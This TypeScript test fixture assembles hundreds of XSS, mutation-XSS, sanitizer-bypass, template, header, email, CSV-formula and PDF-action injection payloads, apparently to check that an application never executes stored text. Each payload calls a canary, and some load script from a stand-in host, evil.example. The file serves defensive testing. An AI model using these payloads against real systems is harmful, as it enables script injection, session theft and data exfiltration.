/**
 * Texts that try to be more than words (T26), put together from tables: what a text breaks out of, what it then is, and in which spelling.
 * Whatever runs calls `ran(number)`, which says which one it was. Pure.
 */

/** How a text that runs tells of it. */
const CALL = "ran(0)";

/** What runs by itself, or once it is touched, where a text is taken for markup. */
const ELEMENTS = [
  `<script>${CALL}</script>`, `<script>${CALL}`, `<script/x>${CALL}</script >`, `<script type=module>${CALL}</script>`, `<script nonce="">${CALL}</script>`, `<script async src="data:text/javascript,${CALL}"></script>`, `<script src="//evil.example/x.js"></script>`,
  `<script type="text/plain" data-files="">${CALL}</script>`, `<script type="application/json">[${CALL}]</script>`, `<script type="importmap">{"imports":{"react":"data:text/javascript,${CALL}"}}</script>`, `<script type="speculationrules">{"prefetch":[{"urls":["/logout"]}]}</script>`,
  `<img src=x onerror=${CALL}>`, `<img src=x onerror=ran\`0\`>`, `<img/src=x/onerror=${CALL}//`, `<img src onerror=${CALL}>`, `<img srcset=x onerror=${CALL}>`, `<img src="x" onerror="${CALL}" x="`, `<image src=x onerror=${CALL}>`, `<img loading=eager src=x onerror=${CALL} alt=`,
  `<input autofocus onfocus=${CALL}>`, `<input type=image src=x onerror=${CALL}>`, `<select autofocus onfocus=${CALL}></select>`, `<textarea autofocus onfocus=${CALL}></textarea>`, `<button popovertarget=p onclick=${CALL}>x</button>`, `<div popover id=p onbeforetoggle=${CALL}>x</div>`,
  `<details open ontoggle=${CALL}><summary>x</summary></details>`, `<video src=x onerror=${CALL}></video>`, `<video><source src=x onerror=${CALL}></video>`, `<audio src=x onerror=${CALL}></audio>`, `<body onload=${CALL}>`, `<body onpageshow=${CALL} onhashchange=${CALL}>`,
  `<html onmouseover=${CALL}>`, `<iframe onload=${CALL}></iframe>`, `<iframe src="javascript:parent.${CALL}"></iframe>`, `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<iframe srcdoc="&lt;img src=x onerror=parent.${CALL}&gt;"></iframe>`, `<frameset onload=${CALL}>`,
  `<object data="javascript:${CALL}"></object>`, `<object data="data:text/html,<script>${CALL}</script>"></object>`, `<embed src="javascript:${CALL}">`, `<embed src="data:image/svg+xml,<svg onload=${CALL}>">`, `<applet code=x onerror=${CALL}></applet>`, `<portal src="javascript:${CALL}"></portal>`,
  `<marquee onstart=${CALL}>x</marquee>`, `<style onload=${CALL}></style>`, `<style>*{background:url("javascript:${CALL}")}</style>`, `<style>@import "//evil.example/x.css";</style>`, `<link rel=stylesheet href="data:text/css,*{}" onload=${CALL}>`, `<link rel=prefetch href=x onerror=${CALL}>`,
  `<link rel=modulepreload href="data:text/javascript,${CALL}">`, `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<meta http-equiv="Content-Security-Policy" content="script-src *">`, `<base href="//evil.example/">`, `<base target="${CALL}">`, `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<form><button formaction="javascript:${CALL}">x</button></form>`, `<isindex type=image src=x onerror=${CALL}>`, `<keygen autofocus onfocus=${CALL}>`, `<x onclick=${CALL} tabindex=1 autofocus onfocus=${CALL}>x</x>`, `<x-y contenteditable oninput=${CALL}>x</x-y>`, `<p style="animation:x" onanimationstart=${CALL}>x</p>`,
  `<p style="position:fixed;inset:0;z-index:9" onpointerover=${CALL}>x</p>`, `<a href="javascript:${CALL}" autofocus>x</a>`, `<a href="#" ping="//evil.example/">x</a>`, `<area href="javascript:${CALL}">`, `<dialog open oncancel=${CALL}>x</dialog>`, `<track src=x onerror=${CALL}>`, `<slot onslotchange=${CALL}>`,
  `<canvas onclick=${CALL}>`, `<bgsound src="javascript:${CALL}">`, `<layer src="javascript:${CALL}">`, `<xml id=x><a>${CALL}</a></xml>`, `<table background="javascript:${CALL}">`, `<td background="javascript:${CALL}">`, `<fencedframe onload=${CALL}>`, `<permission onpromptdismiss=${CALL}>`,
] as const;

/** Words of other grammars that stand in HTML: drawings, formulas, templates. */
const FOREIGN = [
  `<svg onload=${CALL}>`, `<svg/onload=${CALL}//`, `<svg><script>${CALL}</script></svg>`, `<svg><script>${CALL.replace("(", "&#40;")}</script></svg>`, `<svg><script href="data:text/javascript,${CALL}"/></svg>`, `<svg><script xlink:href="data:text/javascript,${CALL}"></script></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=9>x</text></a></svg>`, `<svg><a><animate attributeName=href values="javascript:${CALL}"/><text y=9>x</text></a></svg>`, `<svg><a><set attributeName=href to="javascript:${CALL}"/></a></svg>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CALL} attributeName=x></svg>`, `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"/></svg>`, `<svg><image href=x onerror=${CALL}></svg>`, `<svg><style>*{}</style><img src=x onerror=${CALL}></svg>`,
  `<svg><desc><img src=x onerror=${CALL}></desc></svg>`, `<svg><title><style><img src=x onerror=${CALL}></style></title></svg>`, `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${CALL}</handler></svg>`, `<svg><discard onbegin=${CALL}></svg>`, `<svg xmlns="http://www.w3.org/2000/svg"><g onload="${CALL}"/></svg>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${CALL}">x</maction></math>`, `<math href="javascript:${CALL}"><mi>x</mi></math>`, `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>`,
  `<math><mtext><img src=x onerror=${CALL}></mtext></math>`, `<math><ms><script>${CALL}</script></ms></math>`, `<template><script>${CALL}</script></template>`, `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`, `<div><template shadowrootmode=open><script>${CALL}</script></template></div>`, `<?xml version="1.0"?><?xml-stylesheet href="javascript:${CALL}"?>`,
  `<!DOCTYPE x [<!ENTITY y "${CALL}">]>&y;`, `<![CDATA[<script>${CALL}</script>]]>`, `<svg><![CDATA[><img src=x onerror=${CALL}>]]></svg>`,
] as const;

/** What a reader takes for one thing and a second reader for another: HTML that changes while it is cleaned. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<noscript><style></noscript><img src=x onerror=${CALL}></style>`, `<select><style></select><img src=x onerror=${CALL}></style>`, `<select><option><style></option></select><b><img src=x onerror=${CALL}></style></option>`, `<select><template><img src=x onerror=${CALL}></template></select>`,
  `<table><td><style></table><img src=x onerror=${CALL}></style>`, `<table><caption><svg><title><table><style></title></svg><img src=x onerror=${CALL}>`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<math><mtext><mglyph><malignmark><style><img src=x onerror=${CALL}></style>`, `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`, `<svg><p><style><g title="</style><img src=x onerror=${CALL}>">`, `<p><svg><style><!--</p><img src=x onerror=${CALL}>--></style></svg>`, `<math><mi><table><style><a title="</style><img src onerror=${CALL}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${CALL}>">`, `<title><img title="</title><img src=x onerror=${CALL}>">`, `<style><img title="</style><img src=x onerror=${CALL}>">`, `<xmp><img title="</xmp><img src=x onerror=${CALL}>">`, `<iframe><img title="</iframe><img src=x onerror=${CALL}>">`, `<noembed><img title="</noembed><img src=x onerror=${CALL}>">`,
  `<noframes><img title="</noframes><img src=x onerror=${CALL}>">`, `<plaintext><img src=x onerror=${CALL}>`, `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`, `<pre>\n\n<img src=x onerror=${CALL}></pre>`, `<b><p></b><img src=x onerror=${CALL}></p>`, `<a><table><a href="javascript:${CALL}">x</a></table></a>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`, `<<script>${CALL}//<</script>`, `<img <img src=x onerror=${CALL}>>`, `<img src="x" <!--" onerror=${CALL}>-->`, `<!--><img src=x onerror=${CALL}>-->`, `<!---><img src=x onerror=${CALL}>-->`, `<!-- --!><img src=x onerror=${CALL}>`, `<!--<!--><img src=x onerror=${CALL}>`, `<!-- <script> --><img src=x onerror=${CALL}>`,
  `<!x><img src=x onerror=${CALL}>`, `<!a foo=>x="><img src=x onerror=${CALL}>">`, `</><img src=x onerror=${CALL}>`, `</ x><img src=x onerror=${CALL}>`, `<?x ><img src=x onerror=${CALL}>?>`, `<% x %><img src=x onerror=${CALL}>`, `<[endif]--><img src=x onerror=${CALL}>`, `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`,
  `<p title="&quot;><img src=x onerror=${CALL}>">`, `<p title='\`"><img src=x onerror=${CALL}>'>`, `<p id="\`"><img src=x onerror=${CALL}>\`">`, `<code>\`\`<script>${CALL}</script>\`\`</code>`, `</p><p onmouseover=${CALL}>`, `</main></body></html><script>${CALL}</script>`, `</title></style></textarea></noscript></template></select></script><img src=x onerror=${CALL}>`,
] as const;

/** What a text may stand in, and what leads out of it. */
const WAYS_OUT = [`">`, `'>`, "`>", ">", `"/>`, `'/>`, `" >`, `\n">`, `"'>`, `-->`, `--!>`, `]]>`, `*/`, `?>`, `%>`, `}`, `</script>`, `</SCRIPT >`, `</style>`, `</textarea>`, `</title>`, `</option></select>`, `</noscript>`, `</template>`, `</svg>`, `</a>`, `"]}</script>`, `'}]</script>`, `\\u003c/script\\u003e`] as const;
const AFTER_IT = [`<img src=x onerror=${CALL}>`, `<svg onload=${CALL}>`] as const;

/** More of an element that a text stands in as an attribute. */
const ATTRIBUTES = [
  `onmouseover=${CALL}`, `onfocus=${CALL} autofocus tabindex=1`, `onerror=${CALL} src=x`, `onload=${CALL}`, `style=animation:x onanimationend=${CALL}`, `style="background:url(javascript:${CALL})"`, `href=javascript:${CALL}`, `formaction=javascript:${CALL} type=submit`,
  `srcdoc="<script>${CALL}</script>"`, `accesskey=x onclick=${CALL}`, `onpointerrawupdate=${CALL}`, `ontransitionend=${CALL}`, `data-page onclick=${CALL}`, `dangerouslySetInnerHTML={__html:"x"} onwheel=${CALL}`,
] as const;
const QUOTES = [`" `, `' `, "` ", `" /`, `x `, `"\n`] as const;

/** Addresses that do not lead anywhere but run, in their spellings. */
const ADDRESSES = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, ` javascript:${CALL}`, `\tjavascript:${CALL}`, `\u0001javascript:${CALL}`, `\u001fjavascript:${CALL}`, `\u00a0javascript:${CALL}`, `\u200bjavascript:${CALL}`, `\ufeffjavascript:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`, `java\r\nscript:${CALL}`,
  `javascript\t:${CALL}`, `javascript&colon;${CALL}`, `&#106;avascript:${CALL}`, `&#x6a;avascript:${CALL}`, `&#0000106avascript:${CALL}`, `java&Tab;script:${CALL}`, `java&NewLine;script:${CALL}`, `&NonExistent;javascript:${CALL}`, `javascript:/*--></title></style></textarea></script><svg/onload=${CALL}>*/`,
  `javascript://%0a${CALL}`, `javascript:%72an(0)`, `javascript:void(0)||${CALL}`, `javascript://es.lumbra.localhost/%0d%0a${CALL}`, `jav\u0061script:${CALL}`, `\\x6aavascript:${CALL}`, `\\u006aavascript:${CALL}`, `ｊavascript:${CALL}`, `javaſcript:${CALL}`, `livescript:${CALL}`, `mocha:${CALL}`,
  `vbscript:${CALL}`, `VBScript:msgbox`, `data:text/html,<script>${CALL}</script>`, `data:text/html;base64,PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`, `data:,${CALL}`, `DATA:text/html;charset=utf-7,+ADw-script+AD4-ran(0)`, `blob:http://es.lumbra.localhost/1`, `filesystem:http://es.lumbra.localhost/x`,
  `view-source:javascript:${CALL}`, `feed:javascript:${CALL}`, `jar:javascript:${CALL}!/`, `//evil.example/x.js`, `\\\\evil.example\\x.js`, `/\\evil.example/x.js`, `https:evil.example`, `file:///etc/passwd`, `about:srcdoc`, `intent://evil.example#Intent;end`, `ms-office:x`,
] as const;

/** What breaks out of a program, of its data, or of what writes them. */
const PROGRAMS = [
  `';${CALL};//`, `";${CALL};//`, `\`;${CALL};//`, `\\';${CALL};//`, `\\";${CALL};//`, `'-${CALL}-'`, `"-${CALL}-"`, `\${${CALL}}`, `\\${"`"}\${${CALL}}`, `*/${CALL}/*`, `\n${CALL}\n`, `\u2028${CALL}\u2029`, `\u2028</script><script>${CALL}</script>`, `//\r${CALL}`, `<!--${CALL}`, `<!--<script>${CALL}`, `<!--<script></script><script>${CALL}</script>`,
  `-->${CALL}`, `</script/x><script>${CALL}</script>`, `</script\n><script>${CALL}</script>`, `</scripT\t><script>${CALL}</script>`, `\\u003cscript\\u003e${CALL}`, `\\x3cscript\\x3e${CALL}`, `\\074script\\076${CALL}`, `{"__proto__":{"ran":1}}`, `__proto__`, `constructor`, `constructor.constructor('${CALL}')()`, `prototype`, `toString`, `hasOwnProperty`,
  `{{constructor.constructor('${CALL}')()}}`, `{{7*7}}`, `\${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `{%raw%}{{${CALL}}}`, `[[${CALL}]]`, `{{{__html:1}}}`, `@(${CALL})`, `*{${CALL}}`, `$eval('${CALL}')`, `{0}`, `{count, plural, other {#}}`, `{name}`, `<b>{name}</b>`, `'{'${CALL}'}'`, `["P",0]`, `["SanitizedError","Error",0]`, `[{"_1":-7},"ran"]`, `P1:[["ran",0]]`, `E1:{}`,
  `$&`, "$`", "$'", `$$`, `$1`, `$<mark>`, `%s%d%o%c`, `<!--$-->`, `<!--/$-->`, `<!--$!-->`, `<!--$?--><template id="B:0"></template>`, `<i id="_R_0_"></i>`, `</body>`, `</head>`, `<link rel="stylesheet" href="/x.css"/>`, `<link rel="modulepreload" href="/x.js"/>`, ` nonce="x"`, `<script nonce="x" type="module" async="">import "/x.js"</script>`,
] as const;

/** Names that take the place of what a program asks the document for. */
const NAMES = [
  "body", "head", "forms", "cookie", "domain", "defaultView", "currentScript", "querySelectorAll", "getElementById", "createElement", "documentElement", "early", "ran", "streamController", "__reactRouterContext", "__reactRouterManifest", "__reactRouterRouteModules", "textContent", "dataset", "location", "self", "top", "parent",
].flatMap((name, index) => [index % 2 === 0 ? `<img name="${name}" src=x>` : `<form id="${name}"><input name=${name}></form>`, ...(index % 6 === 0 ? [`<a id=${name}></a><a id=${name} name=x href="javascript:${CALL}"></a>`] : [])]);

/** Signs that are not what they look like, and halves of signs. */
const SIGNS = [
  `＜script＞${CALL}＜/script＞`, `‹img src=x onerror=${CALL}›`, `\u3008script\u3009${CALL}`, `<\u0000script>${CALL}</script>`, `<s\u0000cript>${CALL}</script>`, `<img\u0000src=x onerror=${CALL}>`, `<img\u000csrc=x\u000conerror=${CALL}>`, `<img\u000bsrc=x\u000bonerror=${CALL}>`, `<img\u00a0src=x onerror=${CALL}>`, `<img src=x onerror\u0000=${CALL}>`,
  `<scrıpt>${CALL}</scrıpt>`, `<ſcript>${CALL}</ſcript>`, `<SCRİPT>${CALL}</SCRİPT>`, `<img src=x onerror=${CALL} \ud800>`, `\ud800<script>${CALL}</script>`, `\udc00">${CALL}`, `<\ufeffscript>${CALL}</script>`, `\u202e>tpircs<${CALL}`, `<a\u2029href="javascript:${CALL}">x</a>`, `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`, `%3Cscript%3E${CALL}%3C/script%3E`, `%253Cscript%253E${CALL}`, `%u003cscript%u003e${CALL}`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`, `&amp;lt;script&amp;gt;${CALL}`, `&#60;script&#62;${CALL}&#60;/script&#62;`, `&#x3c;img src=x onerror=${CALL}&#x3e;`, `&#60script&#62${CALL}`, `&LT;script&GT;${CALL}`, `&lt img src=x onerror=${CALL}&gt`, `\\<script\\>${CALL}`, `\u001b(J<script>${CALL}</script>`, `\u001b$B">${CALL}`, `\u0085<img src=x onerror=${CALL}>`, `\u00bcscript\u00bealert(0)\u00bc/script\u00be`,
  `<img src=x onerror=&#114;an(0)>`, `<img src=x onerror="&#x72;an&lpar;0&rpar;">`, `<img src=x one\u200brror=${CALL}>`, `<IMG SRC=X ONERROR=${CALL}>`, `<ImG sRc=x oNeRrOr=${CALL}>`,
] as const;

/** More of one sort than a reader may be made for. */
const MUCH = [
  `${"<b>".repeat(120)}<img src=x onerror=${CALL}>`, `${"<div title='".repeat(60)}"><img src=x onerror=${CALL}>`, `${"&".repeat(200)}<svg onload=${CALL}>`, `${"<".repeat(200)}script>${CALL}`, `${'"'.repeat(200)}onload=${CALL}`, `<img ${"x ".repeat(150)}src=x onerror=${CALL}>`, `${"<svg><p>".repeat(40)}<style><img src=x onerror=${CALL}>`, `<script>${" ".repeat(200)}${CALL}</script>`, `${"<!--".repeat(60)}--><img src=x onerror=${CALL}>`, `${"</script>".repeat(30)}<script>${CALL}</script>`,
] as const;

/** What breaks a line, a header, a cell or a paper. */
const LINES = [
  `x\r\nSet-Cookie: ran=0`, `x\r\n\r\n<script>${CALL}</script>`, `x\nBcc: evil@evil.example`, `x\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=${CALL}>`, `x\r\n.\r\nMAIL FROM:<evil@evil.example>`, `=?utf-8?B?PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=?=`, `"ana" <evil@evil.example>, x`, `--boundary\r\nContent-Type: text/html`, `=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd`, `+1-1`, `-2+3`,
  `) /OpenAction << /S /JavaScript /JS (${CALL}) >> (`, `>> endobj 9 0 obj << /S /JavaScript /JS (${CALL}) >> endobj`, `\\) /AA << /O << /S /Launch /F (x) >> >>`, `(\\051 /URI (javascript:${CALL})`, `<</Type/Action/S/URI/URI(javascript:${CALL})>>`, `endstream endobj xref trailer`,
] as const;

const written: readonly string[] = [
  ...ELEMENTS, ...FOREIGN, ...MUTATIONS, ...WAYS_OUT.flatMap((way) => AFTER_IT.map((after) => way + after)), ...QUOTES.flatMap((quote) => ATTRIBUTES.map((attribute) => quote + attribute)), ...ADDRESSES, ...PROGRAMS, ...NAMES, ...SIGNS, ...MUCH, ...LINES,
];

/** All of them, each with its own number. */
export const PLANTED: readonly string[] = [...new Set(written)].map((text, index) => text.replaceAll(CALL, `ran(${index})`).replaceAll("ran`0`", `ran\`${index}\``));

/** Those that a text of a database can hold: PostgreSQL keeps no zero byte, and halves of signs are no text. */
export const STORED: readonly string[] = PLANTED.map((text) => text.toWellFormed().replaceAll("\u0000", "\ufffd"));

/** What a text of them is like that does nothing: as long, of as many words and lines. */
export const harmless = (text: string): string => text.replace(/[^\p{L}\p{N}\s]/gu, "x");
